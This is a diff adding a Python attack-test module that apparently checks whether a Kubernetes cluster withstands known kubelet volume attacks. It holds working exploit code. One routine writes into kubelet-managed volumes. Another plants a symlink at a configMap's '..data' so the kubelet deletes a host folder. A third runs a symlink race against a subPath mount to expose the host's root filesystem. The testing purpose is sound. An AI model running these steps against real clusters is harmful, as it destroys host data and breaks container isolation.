@@ -1,0 +1,104 @@
+"""A restricted pod against the kubelet, by what it makes of its volumes."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+from typing import Any
+
+from tests.attacks._target import IMAGE, Attack, Target, pod, until
+
+_MAP = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings"}, "data": {"a": "1"}}
+_MOUNTS = [{"name": "settings", "mountPath": "/settings"}]
+_TRIES = 12
+
+
+def _written(target: Target) -> str:
+    """Write below volumes that the kubelet fills, and have it follow a link of ours."""
+    volumes = [
+        {"name": "settings", "configMap": {"name": "settings"}},
+        {"name": "secret", "secret": {"secretName": "password", "defaultMode": 0o777}},
+        {"name": "fields", "downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}}]}},
+        {"name": "several", "projected": {"sources": [{"configMap": {"name": "settings"}}]}},
+    ]  # fmt: skip
+    mounts = [{"name": volume["name"], "mountPath": f"/{volume['name']}"} for volume in volumes]
+    secret = {
+        "apiVersion": "v1",
+        "kind": "Secret",
+        "metadata": {"name": "password"},
+        "stringData": {"a": "1"},
+    }
+    target.apply(
+        _MAP, secret, pod("writer", restricted=False, volumes=volumes, container={"volumeMounts": mounts})
+    )
+    target.settled("writer")
+    try:
+        written = [
+            mount["name"]
+            for mount in mounts
+            if target.inside("writer", f"echo x > {mount['mountPath']}/own").returncode == 0
+        ]
+    finally:
+        target.remove("writer")
+    return f"files were written into: {', '.join(written)}" if written else ""
+
+
+def _deleted(target: Target) -> str:
+    """Put a link to a folder of the host where the kubelet keeps its own, and have it tidy up."""
+    victim = Path("/tmp/hard-attacked-victim")
+    victim.mkdir(exist_ok=True)
+    (victim / "precious").write_text("x")
+    volumes = [{"name": "settings", "configMap": {"name": "settings", "defaultMode": 0o777}}]
+    target.apply(
+        _MAP,
+        pod("linker", restricted=False, volumes=volumes, container={"volumeMounts": _MOUNTS},
+            securityContext={"fsGroup": 0}),
+    )  # fmt: skip
+    target.settled("linker")
+    try:
+        target.inside(
+            "linker", f"cd /settings && rm -f ..data && ln -s {'../' * 12}{str(victim)[1:]} ..data && ls -la"
+        )
+        target.apply({**_MAP, "data": {"a": str(time.time())}})
+        until(lambda: not victim.exists(), 100)
+        return "" if (victim / "precious").exists() else "a folder of the host was deleted"
+    finally:
+        target.remove("linker")
+        (victim / "precious").unlink(missing_ok=True)
+        if victim.is_dir():
+            victim.rmdir()
+
+
+def _sub_path(target: Target) -> str:
+    """Swap a folder and a link to / while a container with a sub-path begins again and again."""
+    marker = Path("/etc/hard-attacked-marker")
+    marker.write_text("the host's\n")
+    swap = "cd /work; mkdir -p real; while true; do rm -rf x; mkdir x 2>/dev/null; rm -rf x; ln -s / x; done"
+    reader: dict[str, Any] = {
+        "name": "reader", "image": IMAGE, "imagePullPolicy": "Never",
+        "command": ["sh", "-c", "ls /got/etc/hard-attacked-marker && sleep 3600; exit 1"],
+        "volumeMounts": [{"name": "work", "mountPath": "/got", "subPath": "x"}],
+    }  # fmt: skip
+    mounts = {"volumeMounts": [{"name": "work", "mountPath": "/work"}]}
+    try:
+        for number in range(_TRIES):
+            name = f"swapper-{number}"
+            body = pod(name, script=swap, container=mounts, volumes=[{"name": "work", "emptyDir": {}}])
+            body["spec"]["containers"].append(reader)
+            target.apply(body)
+            target.settled(name)
+            time.sleep(3)
+            found = target.kubectl("logs", name, "-c", "reader").stdout
+            target.remove(name)
+            if "hard-attacked-marker" in found:
+                return f"/ of the host was mounted at try {number + 1}"
+        return ""
+    finally:
+        marker.unlink()
+
+
+ATTACKS: dict[str, Attack] = {
+    "1 files in volumes that the kubelet fills": _written,
+    "1 a link where the kubelet keeps its own": _deleted,
+    "2 a sub-path that is swapped": _sub_path,
+}
